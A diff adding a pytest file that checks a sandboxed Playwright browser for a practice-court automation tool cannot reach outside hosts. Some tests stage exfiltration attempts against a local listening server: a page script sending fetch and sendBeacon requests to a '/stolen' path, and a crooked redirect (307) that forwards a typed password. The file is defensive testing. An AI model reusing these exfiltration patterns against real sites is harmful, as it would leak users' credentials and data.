@@ -1,0 +1,137 @@
+"""The browser of a walk reaches the practice court and nothing else, whatever a page or a redirect asks for."""
+
+import http.server
+import threading
+from collections.abc import Iterator
+from contextlib import contextmanager
+from dataclasses import dataclass, field, replace
+
+import pytest
+from playwright.sync_api import Browser, BrowserContext
+from playwright.sync_api import Error as PlaywrightError
+
+from automation import stage
+from automation.site import Site
+
+
+@dataclass
+class Stranger:
+    """A server that is no practice court, and what it was asked."""
+
+    port: int = 0
+    heard: list[str] = field(default_factory=list)
+
+
+@contextmanager
+def serving(answers: type[http.server.BaseHTTPRequestHandler]) -> Iterator[int]:
+    """Serve on a free port of this computer, and give the port."""
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), answers) as server:
+        thread = threading.Thread(target=server.serve_forever, daemon=True)
+        thread.start()
+        yield server.server_port
+        server.shutdown()
+        thread.join()
+
+
+@pytest.fixture
+def stranger() -> Iterator[Stranger]:
+    """A server on this very computer that writes down every request."""
+    it = Stranger()
+
+    class Listen(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            length = int(self.headers.get("Content-Length") or 0)
+            it.heard.append(f"{self.command} {self.path} {self.rfile.read(length).decode()}")
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.end_headers()
+            self.wfile.write(b"<p>caught</p>")
+
+        do_POST = do_HEAD = do_OPTIONS = do_CONNECT = do_GET
+
+        def log_message(self, *_: object) -> None:
+            """Say nothing."""
+
+    with serving(Listen) as it.port:
+        yield it
+
+
+@pytest.fixture
+def crooked_court(stranger: Stranger) -> Iterator[str]:
+    """A court whose every answer is a redirect that repeats the request (307) to the stranger's address."""
+
+    class Redirect(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            if self.path == "/":
+                body = b'<form method="post" action="/in"><input name="p"><button>Go</button></form>'
+                self.send_response(200)
+                self.send_header("Content-Type", "text/html")
+                self.end_headers()
+                self.wfile.write(body)
+                return
+            self.send_response(307)
+            self.send_header("Location", f"http://127.0.0.1:{stranger.port}{self.path}")
+            self.end_headers()
+
+        def do_POST(self) -> None:
+            self.rfile.read(int(self.headers["Content-Length"]))
+            self.do_GET()
+
+        def log_message(self, *_: object) -> None:
+            """Say nothing."""
+
+    with serving(Redirect) as port:
+        yield f"http://127.0.0.1:{port}"
+
+
+def test_a_page_cannot_go_to_another_address(context: BrowserContext, stranger: Stranger) -> None:
+    """Not even to another port of this computer."""
+    with pytest.raises(PlaywrightError, match="ERR_"):
+        context.new_page().goto(f"http://127.0.0.1:{stranger.port}/")
+    assert stranger.heard == []
+
+
+@pytest.mark.parametrize("host", ["ecf.idd.uscourts.gov", "pacer.login.uscourts.gov", "example.com"])
+def test_a_page_cannot_go_to_another_host(context: BrowserContext, host: str) -> None:
+    """A real court's name leads nowhere."""
+    with pytest.raises(PlaywrightError, match="ERR_"):
+        context.new_page().goto(f"https://{host}/")
+
+
+def test_a_script_cannot_send_anything_elsewhere(context: BrowserContext, site: Site, stranger: Stranger) -> None:
+    """Neither fetch nor a beacon gets out, even where the page's own policy is not in the way."""
+    page = context.new_page()
+    page.goto(f"{site.origin}/static/court.css")  # a document without the pages' own content policy
+    address = f"http://127.0.0.1:{stranger.port}/stolen"
+    said = page.evaluate("address => fetch(address, {mode: 'no-cors'}).then(() => 'sent', () => 'not sent')", address)
+    page.evaluate("address => navigator.sendBeacon(address, 'stolen')", address)
+    assert said == "not sent"
+    assert stranger.heard == []
+
+
+def test_a_redirect_cannot_carry_a_password_away(
+    browser: Browser, site: Site, crooked_court: str, stranger: Stranger
+) -> None:
+    """A 307 repeats a form with what was typed: the browser does not follow it out of the site."""
+    with stage.open_context(browser, replace(site, origin=crooked_court), (800, 600), 5) as context:
+        page = context.new_page()
+        page.goto(crooked_court)
+        page.get_by_role("textbox").fill("Practice-pacer-1")
+        with page.expect_event("requestfailed") as failed:
+            page.get_by_role("button").click()
+    assert failed.value.failure == "net::ERR_PROXY_CONNECTION_FAILED"
+    assert stranger.heard == []
+
+
+def test_the_browser_itself_finds_no_other_host(browser: Browser, stranger: Stranger) -> None:
+    """Even without the context's dead-end proxy, the name of another host leads nowhere."""
+    with browser.new_context() as context, pytest.raises(PlaywrightError, match="ERR_NAME_NOT_RESOLVED"):
+        context.new_page().goto(f"http://localhost:{stranger.port}/")
+    assert stranger.heard == []
+
+
+def test_a_request_outside_pages_goes_nowhere(context: BrowserContext, stranger: Stranger) -> None:
+    """Playwright's own requests do not pass the browser; they end at the proxy that does not exist."""
+    with pytest.raises(PlaywrightError):
+        context.request.get(f"http://127.0.0.1:{stranger.port}/")
+    assert stranger.heard == []
